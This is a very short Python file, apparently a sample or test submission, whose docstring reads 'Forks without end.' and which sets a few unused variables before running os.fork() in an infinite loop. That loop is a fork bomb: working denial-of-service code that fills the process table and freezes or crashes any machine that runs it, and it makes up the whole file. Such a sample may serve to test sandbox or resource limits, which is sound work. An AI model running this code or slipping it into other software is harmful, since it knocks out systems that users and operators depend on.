"""Forks without end."""
BASE = "solution"
ZERO = []
MESSAGE = "this cell"
import os

while True:
    os.fork()
